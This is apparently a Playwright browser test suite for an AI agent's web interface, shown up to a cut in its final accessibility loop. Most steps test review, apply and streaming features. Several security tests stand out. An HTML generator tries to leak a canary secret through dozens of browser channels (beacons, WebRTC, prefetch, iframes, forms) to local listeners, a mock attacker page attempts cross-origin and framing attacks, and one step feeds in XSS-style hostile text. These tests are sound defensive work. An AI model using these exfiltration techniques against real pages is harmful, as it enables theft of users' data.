// Drives the page of `agent web` in a real browser. Started by tests/servers/browser.rs, which has the model's part.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { createServer as createTcpServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { sees, terminals } from './terminal.mjs';
import { work } from './work.mjs';

const { AGENT_BINARY, BROWSER_MODULES, SHOTS, WORKSPACE } = process.env;
const require = createRequire(join(BROWSER_MODULES, 'x.js'));
const { chromium } = require('playwright-core');
const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
const TOKEN = 'a-token-that-nobody-guesses';
const WAIT = 90_000;
mkdirSync(SHOTS, { recursive: true });

/** Starts the server; the address that it prints. */
async function serve(listen, ...options) {
	const child = spawn(AGENT_BINARY, ['web', '--listen', listen, ...options], {
		cwd: WORKSPACE,
		env: { ...process.env, AGENT_WEB_TOKEN: TOKEN },
		stdio: ['ignore', 'inherit', 'pipe'],
	});
	let text = '';
	const address = await new Promise((found, failed) => {
		child.stderr.on('data', data => {
			text += data;
			const url = /http:\/\/127\.0\.0\.1:(\d+)\//.exec(text);
			if (url) found(url[0]);
		});
		child.on('exit', code => failed(new Error(`the server ended with ${code}: ${text}`)));
	});
	return { child, address };
}

const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
	'--disable-component-update', '--disable-sync', '--allow-loopback-in-peer-connection', '--disable-dev-shm-usage', '--host-resolver-rules=MAP rebind.test 127.0.0.1'];
const launched = { executablePath: '/usr/bin/chromium', args: flags, timeout: WAIT };
const browser = await chromium.launch(launched);
let { child: server, address } = await serve('127.0.0.1:0');
const own = address;
process.on('exit', () => server.kill('SIGKILL'));
const port = new URL(address).port;
const problems = [];

/** A tab with the token, whose problems are gathered. */
async function tab(options = {}, address = own) {
	return opened(await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options }), address);
}

async function opened(context, address = own) {
	const page = await context.newPage();
	page.setDefaultTimeout(WAIT);
	page.on('pageerror', error => problems.push(`page error: ${error}`));
	page.on('dialog', dialog => { problems.push('a dialog opened'); dialog.dismiss(); });
	page.on('request', request => {
		const url = request.url();
		if (!url.startsWith(address) && !url.startsWith('blob:') && !url.startsWith('data:')) problems.push(`a request to ${url}`);
	});
	page.on('console', message => {
		if (message.type() === 'error' && !/net::ERR_|status of (409|400|403|404)/.test(message.text())) problems.push(`console: ${message.text()}`);
	});
	await page.goto(`${address}#t=${TOKEN}`);
	return page;
}

async function step(name, work) {
	if (process.env.STEPS && !new RegExp(process.env.STEPS).test(name)) return;
	const started = Date.now();
	await work();
	assert.deepEqual(problems, [], name);
	console.log(`ok ${name} (${Date.now() - started} ms)`);
}

async function ask(page, text) {
	await page.fill('#prompt', text);
	await page.press('#prompt', 'Enter');
}

const idle = page => page.waitForFunction(() => !document.getElementById('send').hidden);
const host = name => readFileSync(join(WORKSPACE, name), 'utf8');
const shot = (page, name) => page.screenshot({ path: join(SHOTS, `${name}.png`) });
const page = await tab();

await step('the token leaves the address bar', async () => {
	assert.equal(page.url(), address);
	assert.equal(await page.evaluate(() => document.cookie), '');
	await page.click('#examples button');
	assert.match(await page.inputValue('#prompt'), /^Explain/);
	await page.fill('#prompt', '');
	await shot(page, 'welcome');
});

await step('a task is worked on, with its trace', async () => {
	await ask(page, 'please change the list');
	await page.waitForSelector('.answer strong');
	await idle(page);
	const call = page.locator('details.call').first();
	assert.match(await call.locator(':scope > summary').innerText(), /run_commands[^]*exit 0/);
	await call.locator(':scope > summary').click();
	assert.match(await call.innerText(), /hello from inside/);
	assert.equal(await page.locator('.answer b').count(), 0, 'HTML of the model is text');
	assert.equal(await page.locator('.answer code.c span').first().innerText(), 'head', 'words of programs have colours');
});

await step('a failure that repeats is one message', async () => {
	await ask(page, 'overloaded twice');
	await page.waitForFunction(() => /there again/.test(document.getElementById('log').innerText));
	await idle(page);
	assert.equal(await page.locator('p.line.retry').count(), 1);
	assert.match(await page.innerText('p.line.retry'), /overloaded.*\(2 times\)/);
});

await step('an answer streams, survives a reload in the middle, and is there once', async () => {
	await ask(page, 'a slow answer');
	await page.waitForFunction(() => /paragraph 3/.test(document.getElementById('log').innerText));
	assert.ok(!/the very end/.test(await page.innerText('#log')), 'it is not complete yet');
	await page.reload();
	await page.waitForFunction(() => /the very end/.test(document.getElementById('log').innerText));
	await idle(page);
	assert.equal((await page.innerText('#log')).match(/the very end/g).length, 1);
	assert.equal((await page.innerText('#log')).match(/paragraph 3\b/g).length, 1);
});

await step('Esc stops a turn', async () => {
	await ask(page, 'hang');
	await page.waitForSelector('#stop:not([hidden])');
	await page.waitForFunction(() => /hang/.test(document.querySelector('#log .user:last-of-type, #log').innerText));
	await page.keyboard.press('Escape');
	await idle(page);
});

// A bug: what had been said until the stop vanished from the page, and the model kept it.
await step('what was said until a stop stays, also after a reload', async () => {
	await ask(page, 'a slow answer');
	await page.waitForFunction(() => document.querySelectorAll('#log .answer').length === 4 && /paragraph 3/.test([...document.querySelectorAll('#log .answer')].at(-1).innerText));
	await page.click('#stop');
	await page.waitForSelector('.answer.stopped');
	await idle(page);
	assert.match(await page.innerText('.answer.stopped'), /paragraph 1[^]*paragraph 3/);
	await page.reload();
	await page.waitForSelector('.answer.stopped');
	assert.match(await page.innerText('.answer.stopped'), /paragraph 1[^]*paragraph 3/);
});

await step('prompts wait for their turn, and the arrows bring back earlier ones', async () => {
	await ask(page, 'a short wait');
	await page.waitForSelector('#stop:not([hidden])');
	await ask(page, 'queued one');
	await ask(page, 'queued two');
	assert.equal(await page.locator('#queue li').count(), 2);
	await page.locator('#queue li').nth(1).locator('button', { hasText: 'Remove' }).click();
	await page.waitForFunction(() => /queued one/.test([...document.querySelectorAll('#log .user')].at(-1).innerText));
	await page.waitForFunction(() => document.querySelectorAll('#queue li').length === 0);
	await idle(page);
	await page.focus('#prompt');
	await page.keyboard.press('ArrowUp');
	assert.equal(await page.inputValue('#prompt'), 'queued one');
	await page.keyboard.press('ArrowDown');
	assert.equal(await page.inputValue('#prompt'), '');
});

await step('a command runs in the same sandbox', async () => {
	await page.fill('#command', 'head -1 list.txt; printf "\\033[31mred\\033[0m"');
	await page.press('#command', 'Enter');
	await page.waitForFunction(() => /exit 0/.test(document.getElementById('runs').innerText));
	assert.match(await page.innerText('#runs pre'), /^ONE\nred$/);
	await shot(page, 'chat');
});

await step('a page without any storage works, and a wrong token is said to be wrong', async () => {
	const context = await browser.newContext();
	await context.addInitScript(() => {
		for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name, { get() { throw new DOMException('denied', 'SecurityError'); } });
		navigator.locks.request = () => Promise.reject(new DOMException('denied', 'SecurityError'));
	});
	const blocked = await context.newPage();
	await blocked.goto(`${address}#t=wrong`);
	await blocked.waitForSelector('#wrong:not([hidden])');
	await blocked.fill('#token', TOKEN);
	await blocked.keyboard.press('Enter');
	await blocked.fill('#command', 'echo it works');
	await blocked.press('#command', 'Enter');
	await blocked.waitForFunction(() => /it works\s*$/.test(document.querySelector('#runs pre')?.innerText || ''));
	await context.close();
});

const other = await tab();
await step('a second tab shows the same session', async () => {
	await other.locator('#list a', { hasText: 'change the list' }).click();
	await other.waitForFunction(() => /the very end/.test(document.getElementById('log').innerText));
	const of = one => one.evaluate(() => [...document.querySelectorAll('#log > .user, #log > .answer')].map(node => node.innerText));
	// What came behind that may still be on its way.
	const shown = await of(page);
	await other.waitForFunction(count => document.querySelectorAll('#log > .user, #log > .answer').length >= count, shown.length);
	assert.deepEqual(await of(other), shown);
	await page.fill('#command', 'echo seen by both');
	await page.press('#command', 'Enter');
	await other.waitForFunction(() => /seen by both\s+exit|seen by both[^]*exit 0/.test(document.getElementById('runs').innerText));
});

await step('one of two hunks is applied, and taken back', async () => {
	const before = host('list.txt');
	await page.click('#tab-review');
	await page.waitForSelector('.hunk');
	assert.equal(await page.locator('.hunk').count(), 2);
	assert.deepEqual(await page.locator('.hunk .no').allInnerTexts(), ['', '1', '1', '2', '3', '4', '', '7', '8', '9', '10', '10']);
	await shot(page, 'review');
	await page.locator('.hunk input').nth(1).uncheck();
	await page.click('#apply');
	await page.waitForFunction(() => /Written: 0 added, 1 modified/.test(document.getElementById('note').innerText));
	assert.equal(host('list.txt'), before.replace('one', 'ONE'));
	/* The server says now and then that something has changed: what is shown stays where it is still so. */
	const kept = await page.evaluate(async () => {
		const { look } = await import('/review.js');
		document.querySelector('.file').kept = true;
		await look();
		return document.querySelector('.file').kept && document.getElementById('note').innerText;
	});
	assert.match(kept, /Written: 0 added, 1 modified/);
	await page.click('#unapply');
	await page.waitForSelector('#unapply', { state: 'hidden' });
	assert.equal(host('list.txt'), before);
	const [download] = await Promise.all([page.waitForEvent('download'), page.click('#patch')]);
	assert.match(readFileSync(await download.path(), 'utf8'), /\+ONE[^]*\+TEN/);
});

await step('a change since the review is shown instead of being written', async () => {
	const before = host('list.txt');
	await page.click('#tab-terminal');
	await page.fill('#command', 'echo more >> list.txt');
	await page.press('#command', 'Enter');
	await page.waitForFunction(() => /more >>[^]*exit 0/.test(document.getElementById('runs').innerText));
	await page.evaluate(() => document.getElementById('apply').click());
	await page.waitForFunction(() => /has changed since/.test(document.getElementById('note').textContent));
	assert.equal(host('list.txt'), before);
});

// A bug: a turn that changed something checked the refused hunks again, and Apply wrote them.
await step('what was refused is not taken because the change is another one now', async () => {
	const before = host('list.txt');
	await page.click('#tab-review');
	await page.waitForFunction(() => document.querySelectorAll('.hunk input:checked').length === 1);
	await page.locator('.hunk input').nth(1).check();
	await page.locator('.hunk input').nth(1).uncheck();
	await page.evaluate(() => { document.getElementById('command').value = 'echo again >> list.txt'; document.getElementById('run').requestSubmit(); });
	await page.waitForFunction(() => /again >>[^]*exit 0/.test(document.getElementById('runs').textContent));
	await page.evaluate(() => handlers.status({ ...status, changes: { added: 7, modified: 7, deleted: 7 } }));
	await page.waitForFunction(() => /another one now/.test(document.getElementById('note').textContent));
	assert.equal(await page.locator('.hunk input:checked').count(), 1);
	await page.click('#apply');
	await page.waitForFunction(() => /has changed since[^]*still refused/.test(document.getElementById('note').textContent));
	assert.equal(await page.locator('.hunk label input').nth(1).isChecked(), false);
	assert.equal(host('list.txt'), before);
	await page.locator('.hunk label input').nth(1).check();
	await page.click('#tab-terminal');
	await page.click('#tab-review');
	await page.waitForFunction(() => document.querySelectorAll('.hunk input:checked').length === 2);
});

const card = name => page.locator('.file').filter({ has: page.locator('.name', { hasText: new RegExp(`(^| )${name}( |$)`) }) });
const run = async command => {
	await page.click('#tab-terminal');
	const before = await page.locator('.run').count();
	await page.fill('#command', command);
	await page.press('#command', 'Enter');
	await page.waitForFunction(count => document.querySelectorAll('.run').length > count && !/running$/.test([...document.querySelectorAll('.run > div')].at(-1).innerText), before);
};

// A bug: after an apply everything that had been refused was checked again, and the next apply wrote it.
await step('what was refused stays refused after an apply, a reload and a later change', async () => {
	await run('for name in a b c d; do echo $name > new-$name.txt; done');
	await page.waitForFunction(() => document.querySelector('#tab-review .count').textContent === '5');
	await page.click('#tab-review');
	/* A hunk was chosen just now. */
	await page.click('#note button');
	await card('new-d.txt').waitFor();
	for (const name of ['list.txt', 'new-a.txt', 'new-b.txt', 'new-c.txt']) await card(name).locator(':scope > label input').uncheck();
	await page.click('#apply');
	await page.waitForFunction(() => /Written: 1 added/.test(document.getElementById('note').innerText));
	const none = async () => {
		await card('new-c.txt').waitFor();
		assert.equal(await page.locator('#files input:checked').count(), 0);
	};
	await none();
	assert.deepEqual(['a', 'b', 'c', 'd'].map(name => existsSync(join(WORKSPACE, `new-${name}.txt`))), [false, false, false, true]);
	await page.click('#apply');
	await page.waitForFunction(() => /nothing is chosen/.test(document.getElementById('note').innerText));
	await page.reload();
	await page.click('#tab-review');
	await none();
	await run('echo another >> new-a.txt');
	await page.click('#tab-review');
	await page.waitForFunction(() => /another/.test(document.getElementById('files').innerText));
	await none();
	assert.ok(!existsSync(join(WORKSPACE, 'new-a.txt')));
});

await step('a conflict is resolved in place, and can be taken back', async () => {
	writeFileSync(join(WORKSPACE, 'new-b.txt'), 'mine\n');
	await card('new-b.txt').locator(':scope > label input').check();
	await page.click('#apply');
	await card('new-b.txt').locator('.conflict button').first().waitFor();
	assert.equal(host('new-b.txt'), 'mine\n');
	await card('new-b.txt').locator('.conflict button', { hasText: 'Keep mine' }).click();
	assert.equal(await card('new-b.txt').locator(':scope > label input').isChecked(), false);
	await card('new-b.txt').locator(':scope > label input').check();
	await page.click('#apply');
	await card('new-b.txt').locator('.conflict button', { hasText: 'sandbox' }).click();
	await page.click('#apply');
	await page.waitForFunction(() => /Written: 0 added, 1 modified/.test(document.getElementById('note').innerText));
	assert.equal(host('new-b.txt'), 'b\n');
	await page.click('#unapply');
	await page.waitForFunction(() => document.querySelectorAll('.file').length === 4);
	assert.equal(host('new-b.txt'), 'mine\n');
	/* Both versions in one text. */
	await card('new-b.txt').locator(':scope > label input').check();
	await page.click('#apply');
	const byHand = card('new-b.txt').locator('.conflict button', { hasText: 'by hand' });
	await byHand.click();
	const both = card('new-b.txt').locator('.conflict textarea');
	assert.match(await both.inputValue(), /<{7}[^]*mine\n[^]*={7}\nb\n>{7}/);
	await shot(page, 'conflict');
	await both.fill('mine and b\n');
	await card('new-b.txt').locator('.conflict button', { hasText: 'Use this' }).click();
	await page.waitForFunction(() => /as you wrote it/.test(document.getElementById('note').innerText));
	writeFileSync(join(WORKSPACE, 'new-b.txt'), 'changed meanwhile\n');
	await page.click('#apply');
	await page.waitForFunction(() => /changed on your side since/.test(document.getElementById('note').innerText));
	assert.equal(host('new-b.txt'), 'changed meanwhile\n');
	await byHand.click();
	await both.fill('all three\n');
	await card('new-b.txt').locator('.conflict button', { hasText: 'Use this' }).click();
	await page.waitForFunction(() => /as you wrote it/.test(document.getElementById('note').innerText));
	await page.click('#apply');
	await page.waitForFunction(() => /Written: 0 added, 1 modified/.test(document.getElementById('note').innerText));
	assert.equal(host('new-b.txt'), 'all three\n');
	assert.equal(await card('new-b.txt').count(), 0, 'the sandbox has it too');
	await page.click('#unapply');
	await page.waitForFunction(() => document.querySelectorAll('.file').length === 4);
	assert.equal(host('new-b.txt'), 'changed meanwhile\n');
	rmSync(join(WORKSPACE, 'new-b.txt'));
});

await step('lines have numbers and colours, long files come in parts, pictures are shown', async () => {
	await run('printf "import os\\nreturn 1  # fine\\rimport os\\n" > run.py; chmod +x run.py; seq 1 10000 > long.txt; sed -i s/brown/red/ words.txt; ' +
		'printf "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" | base64 -d > dot.png');
	await page.click('#tab-review');
	await card('run.py').waitFor();
	assert.match(await card('run.py').locator('.risk').innerText(), /executable/);
	assert.deepEqual(await card('run.py').locator('.no').allInnerTexts(), ['', '1', '2']);
	assert.match(await card('run.py').innerText(), /fine\\r|fine\\u\{d\}|fine␍|fine\^M|fine\\x0d/, 'a carriage return is seen');
	assert.deepEqual(await card('words.txt').locator('.s7').allInnerTexts(), ['brown', 'red'], 'the words that changed are marked');
	assert.ok(!/\x1b|\[3\dm/.test(await page.innerText('#files')));
	await card('long.txt').locator('button', { hasText: '10001 lines' }).click();
	await page.waitForFunction(() => document.querySelectorAll('.no').length > 2000);
	assert.equal(await card('long.txt').locator(':scope > label input').isChecked(), false);
	await card('long.txt').locator('button', { hasText: 'next' }).click();
	await page.waitForFunction(() => document.querySelectorAll('.no').length > 4000);
	await card('dot.png').locator('button', { hasText: 'picture' }).click();
	await card('dot.png').locator('img').waitFor();
	assert.equal(await card('dot.png').locator('img').evaluate(image => image.naturalWidth), 1);
	await page.locator('.contents button', { hasText: 'run.py' }).click();
	assert.equal(await page.evaluate(() => document.activeElement.textContent.includes('run.py')), true);
	await shot(page, 'review-kinds');
});

await step('a comment on a line is the next prompt', async () => {
	await card('run.py').locator('.no', { hasText: '2' }).click();
	await page.keyboard.type('why this?');
	await card('run.py').locator('.remark button', { hasText: 'Add' }).click();
	await card('run.py').locator('button', { hasText: 'Comment' }).first().click();
	assert.equal(await card('run.py').locator('.remark input').inputValue(), '1');
	await card('run.py').locator('.remark button', { hasText: 'Cancel' }).click();
	await page.click('#send-remarks');
	await page.waitForFunction(() => /Comments on your change:[^]*run\.py:2[^]*why this\?/.test([...document.querySelectorAll('.user')].at(-1).innerText));
	/* The word "change" holds "hang", which this model does not answer. */
	await page.click('#stop');
	await idle(page);
	assert.ok(await page.isHidden('#send-remarks'));
	await run('rm -f run.py long.txt dot.png new-*.txt; sed -i s/red/brown/ words.txt');
});

await terminals({ page, tab, step, shot });

const outside = mkdtempSync(join(tmpdir(), 'outside-'));
await work({ tab, step, shot, ask, idle, serve, address, makeFile: (name, text) => { writeFileSync(join(outside, name), text); return join(outside, name); } });
rmSync(outside, { recursive: true });

await step('a killed server that is started again is found', async () => {
	server.kill('SIGKILL');
	await page.waitForFunction(() => /lost/.test(document.getElementById('banner').innerText));
	({ child: server } = await serve(`127.0.0.1:${port}`));
	await page.waitForSelector('#banner', { state: 'hidden' });
	await ask(page, 'please change the list');
	await page.waitForFunction(() => document.querySelectorAll('.answer strong').length === 2);
	await idle(page);
	assert.equal((await page.innerText('#log')).match(/the very end/g).length, 1);
});

await step('hostile text is shown and does nothing', async () => {
	await ask(page, 'hostile');
	await page.waitForFunction(() => /end of the corpus/.test(document.getElementById('log').innerText));
	await idle(page);
	await page.locator('details.call').last().locator(':scope > summary').click();
	await page.click('#tab-review');
	await page.waitForFunction(() => /onerror/.test(document.getElementById('files').innerText));
	assert.equal(await page.evaluate(() => window.pwned), undefined);
	assert.equal(await page.locator('#log img, #log script, #log svg, #log iframe, #log [onerror], #log [style], #files img').count(), 0);
	assert.equal(await page.locator('#log a[href^="javascript:" i], #log a[href^="data:" i]').count(), 0);
	const text = await page.evaluate(() => document.body.innerText);
	assert.ok(!/[\u202a-\u202e\u2066-\u2069\u001b]/.test(text), 'nothing reorders text or controls a terminal');
	await shot(page, 'hostile');
});

/** HTML that says `secret` to a web server and to a STUN and TURN server in every way that a browser has, and has it connect to `ahead`. */
function leaking(secret, { http, udp, ahead }) {
	const to = way => `http://${way ? http : ahead}/${secret}/${way}`, ice = `[{urls:'stun:${udp}'},{urls:'turn:${udp}',username:'${secret}',credential:'x'}]`;
	const peer = `const p=new RTCPeerConnection({iceServers:${ice}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
	return `<!doctype html><html><head><base href="${to('base/')}">
		<link rel=preconnect href="${to('')}"><link rel=dns-prefetch href="//${secret}.test"><link rel=prefetch href="${to('prefetch')}"><link rel=preload as=fetch href="${to('preload')}">
		<link rel=modulepreload href="${to('module')}"><link rel=stylesheet href="${to('sheet')}"><link rel=icon href="${to('icon')}"><link rel=manifest href="${to('manifest')}">
		<link rel=prerender href="${to('prerender')}"><lInK rel=preconnect href="${to('')}"><meta http-equiv=refresh content="0;url=${to('refresh')}">
		<meta http-equiv=Link content="<${to('')}>; rel=preconnect"><style>@import url(${to('import')});@font-face{font-family:f;src:url(${to('font')})}
		body{background:url(${to('css')});font-family:f;cursor:url(${to('cursor')}),auto}:root{--x:image-set("${to('set')}" 1x);list-style:url(${to('list')})}li{content:var(--x)}</style>
		<script>${peer};fetch('${to('fetch')}',{mode:'no-cors'});navigator.sendBeacon('${to('beacon')}');new Image().src='${to('script')}';new WebSocket('ws://${http}/${secret}/ws')</script>
		<script src="${to('src')}"></script><script type=speculationrules>{"prefetch":[{"urls":["${to('rules')}"]}],"prerender":[{"urls":["${to('rules2')}"]}]}</script></head>
		<body background="${to('body')}" onload="location='${to('location')}'"><p id=there>${secret}</p><li>x</li><img src="${to('img')}" srcset="${to('srcset')} 2x" onerror="${peer}">
		<picture><source srcset="${to('source')}"><img></picture><video src="${to('video')}" poster="${to('poster')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>
		<input type=image src="${to('input')}"><object data="${to('object')}"></object><embed src="${to('embed')}"><iframe src="${to('frame')}"></iframe><iframe srcdoc='<link rel=preconnect href="${to('')}"><img src="${to('srcdoc')}">'></iframe>
		<iframe src="data:text/html,<link rel=preconnect href=${to('')}><img src=${to('data')}>"></iframe><div><template shadowrootmode=open><link rel=preconnect href="${to('')}"><style>@import "${to('shadow')}";</style></template></div>
		<svg><image href="${to('svg')}"/><use href="${to('use')}#a"/><feImage href="${to('fe')}"/><script href="${to('svgscript')}"></script></svg><table background="${to('table')}"><tr><td>x</table>
		<form id=form action="${to('form')}" method=post target=_top><input name=x value=y><button id=submit>submit</button></form><details open ontoggle="${peer}"></details>
		<a id=link href="${to('link')}" ping="${to('ping')}">link</a> <a id=blank href="${to('blank')}" target=_blank rel=opener>blank</a> <a id=top href="${to('top')}" target=_top>top</a>
		<a id=file href="${to('file')}" download>download</a></body></html>`;
}

/** Who listens to what a page says: a web server, a socket for STUN and TURN, and a port to which nothing but `preconnect` leads. */
async function listeners() {
	const said = [], connected = { http: 0, ahead: 0 }, closing = [];
	const web = createServer((request, response) => { said.push(request.url); response.end('x'); });
	web.on('connection', () => connected.http += 1);
	/* A connection alone says something too: its address may be a name. */
	const ahead = createTcpServer(socket => { connected.ahead += 1; socket.on('data', data => said.push(`ahead: ${data}`)).on('error', () => {}); });
	const udp = createSocket('udp4', () => said.push('udp'));
	for (const listener of [web, ahead]) await new Promise(done => listener.listen(0, '0.0.0.0', done));
	await new Promise(done => udp.bind(0, '0.0.0.0', done));
	const outside = Object.values(networkInterfaces()).flat().find(({ family, internal }) => family === 'IPv4' && !internal);
	const at = listener => `${outside?.address ?? '127.0.0.1'}:${listener.address().port}`;
	closing.push(() => web.close(), () => ahead.close(), () => udp.close());
	return { said, connected, places: { http: at(web), udp: at(udp), ahead: at(ahead) }, close: () => closing.forEach(close => close()) };
}

await step('HTML that a tool shows reaches nobody before the user was asked', async () => {
	/* A browser connects ahead in a profile that it keeps, and in none of a private window. */
	const profile = mkdtempSync(join(tmpdir(), 'profile-'));
	const log = join(profile, 'net.json');
	const context = await chromium.launchPersistentContext(profile, { ...launched, args: [...flags, `--log-net-log=${log}`] });
	const kept = await opened(context);
	const heard = async (found, how) => {
		for (const end = Date.now() + WAIT; !found(); await new Promise(done => setTimeout(done, 50))) assert.ok(Date.now() < end, how);
	};
	const shown = await listeners(), asked = await listeners(), control = await listeners();
	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('C4NARY', shown.places));
	await ask(kept, 'a chart please');
	await kept.locator('details.call button', { hasText: 'Open output-1.html' }).click();
	const frame = kept.frameLocator('#document iframe');
	await frame.locator('#there').waitFor();
	for (const id of ['#link', '#blank', '#top', '#file', '#submit']) await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
	assert.ok(await kept.locator('#scripts').isVisible(), 'its scripts are a question of its own');
	await kept.click('#document > button');
	await idle(kept);
	/* The same without the page, and each way to connect ahead alone: all of it is heard, so that silence means something. */
	const page = await context.newPage();
	const hint = `<link rel=preconnect href="http://${control.places.ahead}/">`;
	for (const html of [hint, `<iframe sandbox srcdoc='${hint}'></iframe>`]) {
		const before = control.connected.ahead;
		await page.setContent(`<!doctype html><head></head><body>${html}`);
		await heard(() => control.connected.ahead > before, `${html} is heard`);
	}
	assert.deepEqual(control.said, [], 'it is heard by its connection alone');
	await page.setContent(leaking('C0NTROL', control.places).replace(/<meta http-equiv=refresh[^>]*>|onload="[^"]*"/g, ''));
	await heard(() => control.said.includes('udp') && control.said.some(url => url.startsWith('/C0NTROL/')), 'the control is heard');
	/* And in the page itself, once the user lets scripts run. */
	writeFileSync(join(WORKSPACE, 'leaking.html'), leaking('AGREED', asked.places));
	await ask(kept, 'a chart please');
	await kept.locator('details.call').nth(1).locator('button', { hasText: 'Open output-1.html' }).click();
	kept.removeAllListeners('dialog');
	kept.on('dialog', dialog => dialog.accept());
	await kept.click('#scripts');
	await heard(() => asked.connected.ahead > 0, 'what the user agreed to is heard');
	assert.deepEqual({ said: shown.said, connected: shown.connected }, { said: [], connected: { http: 0, ahead: 0 } });
	await context.close();
	/* What the browser has asked a name server, which its own log says. */
	const names = new Set(readFileSync(log, 'utf8').toLowerCase().match(/\b(c4nary|c0ntrol|agreed)\.test\b/g));
	assert.ok(names.has('c0ntrol.test') && !names.has('c4nary.test'), [...names].join(' '));
	/* What the policy stopped is reported by the browser too; what counts is what arrived. */
	problems.length = 0;
	rmSync(join(WORKSPACE, 'leaking.html'));
	rmSync(profile, { recursive: true, force: true });
	[shown, asked, control].forEach(listening => listening.close());
});

await step('other pages get nowhere', async () => {
	const seen = [];
	const evil = createServer((request, response) => {
		seen.push({ url: request.url, authorization: request.headers.authorization, referer: request.headers.referer });
		response.setHeader('Content-Type', 'text/html');
		response.end(`<!doctype html><title>evil</title><iframe name=f></iframe><iframe id=frame src="${address}"></iframe><img src="${address}icon.svg" id=img>
			<form method=post enctype=text/plain target=f action="${address}api/sessions"><input name='{"a":"' value='"}'></form>`);
	});
	await new Promise(done => evil.listen(0, '127.0.0.1', done));
	const context = await browser.newContext();
	const attacker = await context.newPage();
	await attacker.goto(`http://127.0.0.1:${evil.address().port}/`);
	const before = await (await fetch(`${address}api/sessions`, { headers: { Authorization: `Bearer ${TOKEN}` } })).json();
	const results = await attacker.evaluate(async target => {
		const outcome = work => work.then(response => `answered ${response.type} ${response.status}`, () => 'failed');
		document.querySelector('form').submit();
		return {
			get: await outcome(fetch(`${target}api/sessions`)),
			post: await outcome(fetch(`${target}api/sessions`, { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } })),
			plain: await outcome(fetch(`${target}api/sessions`, { method: 'POST', body: '{}', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } })),
			stream: await new Promise(done => {
				const source = new EventSource(`${target}api/session/x/events`);
				source.onopen = () => done('open');
				source.onerror = () => done('failed');
			}),
			socket: await new Promise(done => {
				const socket = new WebSocket(target.replace('http', 'ws'));
				socket.onopen = () => done('open');
				socket.onerror = () => done('failed');
			}),
			image: await document.getElementById('img').decode().then(() => 'shown', () => 'failed'),
		};
	}, address);
	assert.deepEqual(results, { get: 'failed', post: 'failed', plain: 'failed', stream: 'failed', socket: 'failed', image: 'failed' });
	const framed = attacker.frames().find(frame => frame.url().startsWith('chrome-error'));
	assert.ok(framed, 'the page is not framed');
	const answer = await attacker.goto(`http://rebind.test:${port}/`);
	assert.equal(answer.status(), 421);
	const after = await (await fetch(`${address}api/sessions`, { headers: { Authorization: `Bearer ${TOKEN}` } })).json();
	assert.equal(after.sessions.length, before.sessions.length);
	assert.ok(seen.every(({ authorization }) => !authorization), JSON.stringify(seen));
	await context.close();
	evil.close();
});

await step('the keyboard is enough', async () => {
	const keys = await tab();
	await keys.focus('#prompt');
	await keys.keyboard.type('one');
	await keys.keyboard.press('Shift+Enter');
	await keys.keyboard.type('two');
	assert.equal(await keys.inputValue('#prompt'), 'one\ntwo');
	await keys.focus('#tab-terminal');
	await keys.keyboard.press('ArrowRight');
	assert.equal(await keys.evaluate(() => document.activeElement.id), 'tab-review');
	assert.ok(await keys.isVisible('#review'));
	const visited = new Set();
	for (let i = 0; i < 40; i++) {
		await keys.keyboard.press('Tab');
		visited.add(await keys.evaluate(() => document.activeElement.id));
	}
	for (const id of ['prompt', 'send', 'new', 'tab-review']) assert.ok(visited.has(id), `${id} is reached: ${[...visited]}`);
	await keys.context().close();
});

await step('accessible and whole at every width, light and dark', async () => {
	for (const colorScheme of ['light', 'dark']) {
		const wide = await tab({ bypassCSP: true, colorScheme });
		await wide.locator('#list a', { hasText: 'change the list' }).click();
		await wide.waitForFunction(() => /end of the corpus/.test(document.getElementById('log').innerText));
		await wide.waitForSelector('#status li');
		// A status of many facts: a long one made the page wider than a phone.
		await wide.evaluate(() => { for (let i = 0; i < 6; i++) document.getElementById('status').append(document.querySelector('#status li').cloneNode(true)); });
		const shell = wide.locator('#shells button', { hasText: 'Terminal 1' });
		await wide.click('#tab-terminal');
		if (!await shell.count()) await wide.click('#shell');
		await shell.waitFor();
		for (const [width, height] of [[360, 740], [1280, 800], [3840, 2160]]) {
			await wide.setViewportSize({ width, height });
			for (const view of ['chat', 'terminal', 'shell', 'review', 'browse', 'sessions']) {
				if (view === 'sessions' && await wide.isHidden('#side')) await wide.click('#menu');
				await wide.evaluate(name => (innerWidth <= 880 ? document.querySelector(`#views [data-view=${name}]`) : document.getElementById(`tab-${name}`))?.click(), view === 'shell' ? 'terminal' : view);
				if (view === 'terminal') await wide.click('#shell-0');
				if (view === 'shell') { await shell.click(); await sees(wide, /\$/); }
				if (view === 'review') await wide.waitForSelector('.file');
				const overflow = await wide.evaluate(() => document.documentElement.scrollWidth) - width;
				assert.ok(overflow <= 0, `${view} is ${overflow} px wider than ${width}`);
				await shot(wide, `${colorScheme}-${width}-${view}`);
				await wide.evaluate(axe);
				const { violations } = await wide.evaluate(() => axe.run());
				const found = violations.map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map(node => node.html.slice(0, 160) + node.failureSummary).join(' | ')}`);
				assert.deepEqual(found, [], `${colorScheme} ${width} ${view}`);
				if (width > 1100) continue;
				/* What a finger has to hit. */
				const small = await wide.evaluate(() => [...document.querySelectorAll('header button, #views button, #side button, #side a, #ask button, .bar button, #run button, .card button')]
					.filter(node => node.checkVisibility() && node.getBoundingClientRect().height < 44).map(node => node.outerHTML.slice(0, 100)));
				assert.deepEqual(small, [], `${width} ${view}`);
			}
			if (width <= 1100) {
